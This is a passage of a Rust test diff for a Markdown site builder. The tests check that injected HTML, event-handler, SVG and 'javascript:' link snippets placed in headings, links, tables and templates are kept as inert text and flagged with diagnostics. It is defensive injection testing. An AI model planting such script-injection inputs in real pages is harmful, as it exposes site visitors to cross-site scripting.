+                 # {e}\n\n## {e}\n\n{e}\n\n**{e}** と *{e}* と [{e}](README.md \"{e}\")\n\n| {e} | 値 |\n|---|---|\n| {e} | {e} |\n\n- [ ] {e}\n\n> [!NOTE]\n> {e}\n\n用語 {e}\n: {e}\n\n注[^1]\n\n[^1]: {e}\n\n\
+                 ~~~~~~~~~~ {info}\n{body}\n~~~~~~~~~~\n\n{ticks} {info} {ticks}\n"
+            ),
+        ));
+    }
+    let (_, site) = build(files);
+    let pages = scan(&site);
+    for (number, snippet) in snippets.iter().enumerate() {
+        let path = format!("d{number}.html");
+        let words = pages.get(&path).unwrap_or_else(|| panic!("{path} was not built"));
+        assert_kept(words, snippet, &path);
+    }
+}
+
+#[test]
+fn documents_do_not_become_what_they_hold() {
+    let snippets = snippets();
+    let mut files = vec![("content/README.md".to_owned(), "# 表紙\n".to_owned())];
+    for (number, Snippet { text, .. }) in snippets.iter().enumerate() {
+        let line = text.replace(['\n', '\r'], " ");
+        files.push((
+            format!("content/d{number}.md"),
+            format!(
+                "# {line}\n\n{text}\n\n一文に {text} を含む。\n\n## 節 {line}\n\n| 一 | {line} |\n|---|---|\n| {line} | 値 |\n\n- {line}\n\n> {line}\n\n[{line}](README.md) [x]({line}) [x](<{line}>) [x](README.md \"{line}\") [x](README.md '{line}') [x](README.md ({line}))\n\n\
+                 ![{line}](x.png) ![x]({line}) ![x](<{line}>) ![x](x.png \"{line}\")\n\n<{line}>\n\n[[{line}]] [[D|{line}]]\n\n[ref]\n\n[ref]: {line}\n\n[ref2]\n\n[ref2]: <{line}> \"{line}\"\n\n語\n: {line}\n\n注[^{number}]\n\n[^{number}]: {line}\n\n```{line}\n{text}\n```\n"
+            ),
+        ));
+    }
+    let (book, site) = build(files);
+    let pages = scan(&site);
+    let told: BTreeSet<_> = book.diagnostics.iter().map(|diagnostic| (book.files.file(diagnostic.span.file).expect("a place has a file").path.clone(), diagnostic.code)).collect();
+    for (number, snippet) in snippets.iter().enumerate() {
+        let path = format!("d{number}.html");
+        let words = pages.get(&path).unwrap_or_else(|| panic!("{path} was not built"));
+        assert!(words.contains(&snippet.word), "{path}: the word of {:?} is gone", snippet.text);
+        let source = format!("content/d{number}.md");
+        if matches!(snippet.family, Family::Element | Family::Event | Family::Svg) {
+            assert!(told.contains(&(source.clone(), "raw-html")), "{source}: {:?} is not told", snippet.text);
+        }
+        if snippet.family == Family::Scheme && snippet.text.starts_with("javascript:") {
+            assert!(told.contains(&(source.clone(), "link-scheme")), "{source}: {:?} is not told", snippet.text);
+        }
+    }
+}
+
+#[test]
+fn expressions_give_text() {
+    let snippets = snippets();
+    let mut files = vec![("content/README.md".to_owned(), "# 表紙\n".to_owned())];
+    let mut yaml = String::from("roles:\n");
+    let mut body = String::from("# 一覧\n\n{{ report(\"roles\") }}\n\n");
+    for (number, snippet) in snippets.iter().enumerate() {
+        yaml.push_str(&format!("  - {{id: role-{number}, title: {}}}\n", quoted(&snippet.text)));
+        body.push_str(&format!("番号 {number} は {{{{ record(\"role-{number}\").title }}}} です。\n\n"));
+    }
+    files.push(("content/r.yaml".to_owned(), yaml));
+    files.push(("content/list.md.jinja".to_owned(), body));
+    let (book, site) = build(files);
+    assert_eq!(book.diagnostics, []);
+    let pages = scan(&site);
+    let words = comparable(&pages["list.html"]);
+    for snippet in &snippets {
+        assert!(words.contains(&comparable(&snippet.text)), "{:?} is not kept as text", snippet.text);
+    }
+}
